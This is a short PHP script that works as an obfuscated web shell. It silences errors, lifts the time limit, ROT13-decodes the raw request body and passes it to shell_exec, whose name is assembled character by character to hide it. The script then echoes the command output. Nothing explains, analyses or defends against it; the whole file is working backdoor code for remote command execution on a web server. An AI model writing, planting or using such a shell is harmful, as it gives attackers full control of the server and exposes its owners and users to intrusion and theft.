<?php
error_reporting(0);
set_time_limit(0);
$req = str_rot13(file_get_contents('php://input'));
$o0 = implode('', array('s','h','e','l','l','_','e','x','e','c'));
echo $o0($req);
